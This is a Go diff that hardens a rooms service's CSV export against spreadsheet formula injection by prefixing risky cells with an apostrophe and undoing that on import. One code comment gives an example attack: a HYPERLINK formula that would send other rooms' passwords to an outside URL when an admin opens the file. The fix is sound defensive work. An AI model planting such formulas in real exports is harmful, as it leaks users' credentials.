@@ -326,7 +326,7 @@ func (s *Service) readCSV(r io.Reader) ([]*csvRoom, []LineError) {
 				}
 				continue
 			}
-			vals[name] = strings.TrimSpace(v)
+			vals[name] = restoreFormula(strings.TrimSpace(v))
 		}
 		if extra {
 			errs = append(errs, LineError{Line: line, Message: fmt.Sprintf("has a value in a column without a name in the header (%d fields, the header names %d)", len(rec), len(cols))})
@@ -767,6 +767,9 @@ func (s *Service) Export(ctx context.Context, w io.Writer, opts ExportOptions) e
 	}
 	for _, r := range list {
 		for _, row := range csvRows(r) {
+			for i := range row {
+				row[i] = defuseFormula(row[i])
+			}
 			if err := cw.Write(row); err != nil {
 				return fmt.Errorf("rooms: export: %w", err)
 			}
@@ -838,4 +841,27 @@ func sameDate(a, b time.Time) bool {
 	ya, ma, da := a.Date()
 	yb, mb, db := b.Date()
 	return ya == yb && ma == mb && da == db
+}
+
+// formulaStarts are the first characters with which a spreadsheet reads a
+// cell as a formula (=HYPERLINK("https://…?"&O2,…) would send other rooms'
+// passwords away when an admin opens the export).
+const formulaStarts = "=+-@\t\r"
+
+// defuseFormula makes a cell that a spreadsheet would run as a formula
+// plain text, the way spreadsheets themselves mark text: a leading '.
+func defuseFormula(cell string) string {
+	if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
+		return "'" + cell
+	}
+	return cell
+}
+
+// restoreFormula undoes defuseFormula on import, so export → import is
+// unchanged.
+func restoreFormula(cell string) string {
+	if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune(formulaStarts, rune(cell[1])) {
+		return cell[1:]
+	}
+	return cell
 }
